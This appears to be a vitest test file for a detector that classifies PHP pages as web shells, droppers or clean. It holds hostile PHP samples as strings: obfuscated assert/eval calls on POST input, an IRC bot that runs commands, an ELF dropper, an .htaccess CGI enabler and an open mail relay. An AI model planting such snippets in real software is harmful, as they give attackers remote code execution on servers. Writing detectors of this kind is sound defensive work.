import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { analyse } from '../analyse.ts'
import { Literals } from '../literals.ts'
import { type Grammars, loadGrammars } from '../syntax.ts'
import type { Verdict } from '../verdict.ts'
import { bytesOf } from './bytes.ts'
import { glanceAt } from './glance.ts'

// Samples are text in this file and nothing else: no server runs a .ts file, and none of them does anything.

const fileOf = (name: string) => readFileSync(fileURLToPath(import.meta.resolve(name)))
let grammars: Grammars
beforeAll(async () => {
  grammars = await loadGrammars({
    runtime: fileOf('web-tree-sitter/web-tree-sitter.wasm'),
    grammars: new Map([['php', fileOf('@vscode/tree-sitter-wasm/wasm/tree-sitter-php.wasm')]]),
  })
})

const judged = (text: string) => analyse({ path: 'page.php', bytes: bytesOf(text), text }, grammars)

const RUNNERS = ['exec', 'shell_exec', 'system', 'passthru', 'popen']
const runner = (functions: readonly string[]) =>
  `function run($c) { ${functions.map(name => `if (function_exists('${name}')) { $r = ${name}($c); }`).join(' else')} return $r; }`

const CASES: readonly (readonly [name: string, text: string, verdict: Verdict, why: string])[] = [
  [
    'a page that knows the trade',
    '<html><b>Safe mode: <?php echo ini_get("x") ?></b> /etc/passwd <a href="?a">back connect</a> <a>Self remove</a> find suid, netstat, brute force, ftp brute, cpanel, milw0rm<?php unlink($_GET["f"]) ?>',
    'web-shell',
    'knows the trade',
  ],
  [
    'an installer that tells what the host allows',
    '<?php foreach (["safe_mode", "open_basedir", "disable_functions"] as $k) echo $k, ini_get($k); phpinfo(); echo php_uname();',
    'clean',
    '',
  ],
  ['whichever way the host allows', `<?php ${runner(RUNNERS)} echo run($x);`, 'web-shell', 'whichever the host allows'],
  ['two ways of a library', `<?php class Convert { ${runner(['exec', 'shell_exec'])} }`, 'clean', ''],
  [
    'a robot in a chat',
    '<?php $s = fsockopen("192.0.2.1", 6667); while ($l = fgets($s)) { fwrite($s, "PRIVMSG #a :hi"); $c = strstr($l, "!"); exec($c); }',
    'web-shell',
    'chat server',
  ],
  ['a notice in a chat', '<?php $s = fsockopen("192.0.2.1", 6667); fwrite($s, "PRIVMSG #builds :done");', 'clean', ''],
  [
    'a program carried along',
    '<?php $p = "\\x7f\\x45\\x4c\\x46\\x01\\x01"; $f = fopen("/tmp/a", "w"); fwrite($f, $p);',
    'dropper',
    'carries a program',
  ],
  ['a check for programs', '<?php if (substr($data, 0, 4) === "\\x7f\\x45\\x4c\\x46") echo "a program";', 'clean', ''],
  [
    'a page that makes the server run scripts',
    '<?php $f = fopen(".htaccess", "w"); fwrite($f, "Options +ExecCGI\\nAddHandler cgi-script .x");',
    'dropper',
    'makes the server run other files',
  ],
  ['a page that forbids', '<?php $f = fopen(".htaccess", "w"); fwrite($f, "Require all denied"); // no AddHandler', 'clean', ''],
  [
    'a query that writes a file',
    '<?php mysql_query("select \'" . $_POST["a"] . "\' into dumpfile \'/tmp/a\'");',
    'web-shell',
    'into dumpfile',
  ],
  ['a query of a site', '<?php mysql_query("select name from users where id = " . intval($_GET["id"]));', 'clean', ''],
  [
    'a client for any database',
    '<?php $c = mysqli_connect($_POST["h"], $_POST["u"], $_POST["p"]); $r = mysqli_query($c, $_POST["sql"]);',
    'web-shell',
    'which database is opened',
  ],
  [
    'an installer that tries what it was told',
    '<?php $c = mysqli_connect($_POST["h"], $_POST["u"], $_POST["p"]); $r = mysqli_query($c, "select version()");',
    'clean',
    '',
  ],
  [
    'mail from anybody to anybody',
    '<?php foreach (explode("\\n", $_POST["to"]) as $to) mail($to, $_POST["subject"], stripslashes($_POST["text"]), "From: " . $_POST["from"]);',
    'web-shell',
    'to whom, as whom and what',
  ],
  [
    'the form of a site',
    '<?php mail("office@site.example", $_POST["subject"], $_POST["text"], "From: " . $_POST["from"]);',
    'clean',
    '',
  ],
  [
    'what visitors send, in a picture',
    '<?php file_put_contents("media/a.jpg", base64_encode(serialize($_REQUEST)), FILE_APPEND);',
    'web-shell',
    'is written to media/a.jpg',
  ],
  ['what was bought, in a log', '<?php file_put_contents("orders.log", json_encode($_POST), FILE_APPEND);', 'clean', ''],
  [
    'a variable nobody assigns, among fixed words',
    '<?php if ($go) system("$cmd 1> /tmp/out 2>&1");',
    'web-shell',
    'nobody assigns',
  ],
  ['a program with a variable at its end', '<?php $f = "a.png"; system("identify $f");', 'clean', ''],
  ['arguments as they come', '<?php usort(...$_GET);', 'web-shell', 'names the function'],
  ['a list in order', '<?php $l = [3, 1]; usort($l, fn($a, $b) => $a - $b);', 'clean', ''],
  [
    'comments between the letters',
    '<?php @$_="s"."s"./*-/*-*/"e"./*-/*-*/"r";@$_=/*-/*-*/"a"./*-/*-*/$_./*-/*-*/"t";@$_/*-/*-*/($/*-/*-*/{"_P"./*-/*-*/"OS"./*-/*-*/"T"}[/*-*/0]);',
    'web-shell',
    '$_POST[0] reaches assert()',
  ],
  [
    'a name with letters put in between',
    '<?php $n = str_replace("k9","","crk9eatek9_fk9unction"); $c = str_replace("k9","","@evk9al(k9$_POk9ST[1]);"); $f = $n("", $c); $f();',
    'web-shell',
    'create_function() under another name',
  ],
  ['comments of a list', '<?php $columns = ["id" /* number */, "name" /* text */]; $show /* them */ ($columns);', 'clean', ''],
  [
    'what a shell showed, saved',
    '<html><title>c99madshell</title>Safe mode: off, uname -a, /etc/passwd, Self remove, netstat, sql dump, back connect, make dir',
    'web-shell',
    'knows the trade',
  ],
  ['a page about one of these', '<html>How to set disable_functions, and what phpinfo() tells of it.', 'clean', ''],
  ['names as they stand in a folder', '<?php foreach (scandir($_GET["d"]) as $n) { copy($n, "backup/" . $n); }', 'clean', ''],
]

describe('what a page can do', () => {
  test.each(CASES)('%s', (_name, text, verdict, why) => {
    const { verdict: found, reasons } = judged(text)
    expect([found, reasons.map(({ what }) => what).join('; ')]).toEqual([verdict, expect.stringContaining(why)])
  })

  test('a sum of a thousand texts is followed to its end', () => {
    const parts = Array.from({ length: 1_500 }, () => "'QUFB'").join('.\n')
    const { verdict, whyNotParsed } = judged(`<?php $a = ${parts}; eval(base64_decode($a));`)
    expect([verdict, whyNotParsed]).toEqual(['web-shell', undefined])
  })
})

describe('a glance', () => {
  test.each([
    ['$_POST', '$a = $_POST["x"];', { asked: true }],
    ['a name that only sounds like it', '$a = my_get($b_post);', { asked: false }],
    ['a decoder', 'strrev($a)', { mayHide: true }],
    ['letters taken out', `str_replace("ti", "", "tistrti")`, { mayHide: true }],
    ['pieces of a word', `$a = 'as' . 'sert';`, { mayHide: true }],
    ['sentences', `$a = 'a sentence of a page, ' . 'and how it goes on';`, { mayHide: false }],
    ['texts mixed', `$a = 'abc' ^ $b;`, { mayHide: true }],
    ['a pattern', `preg_match('^abc', $b);`, { mayHide: false }],
    ['a variable by its value', '$$name = 1;', { mayHide: true }],
    ['a variable in a text', `"\${name}"`, { mayHide: false }],
    ['commands called', 'system($a); exec ($b);', { ways: ['system', 'exec'] }],
    ['methods and declarations', '$o->exec($b); function system($a) {} DB::exec($c);', { ways: [] }],
    ['one subject in many words', 'netstat, ipconfig and whoami', { subjects: ['commands that look around'] }],
  ])('%s', (_name, text, expected) => {
    expect(glanceAt(bytesOf(`<?php ${text}`))).toMatchObject(expected)
  })

  test('finds the words a search finds', () => {
    const words = ['abab', 'babc', 'abcd', 'cccc']
    const literals = new Literals(words.map((word, index) => ({ word, says: 1 << index, place: 0 })))
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', 'b', 'c', 'd', 'B'), maxLength: 40 }), text => {
        const expected = words.reduce(
          (bits, word, index) => bits | (new RegExp(`(?<![a-z])${word}`, 'i').test(text) ? 1 << index : 0),
          0,
        )
        expect(literals.in(bytesOf(text))[0]).toBe(expected)
      }),
    )
  })

  test('any bytes are looked at', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), bytes => {
        expect(glanceAt(bytes).subjects.length).toBeLessThan(24)
      }),
    )
  })
})
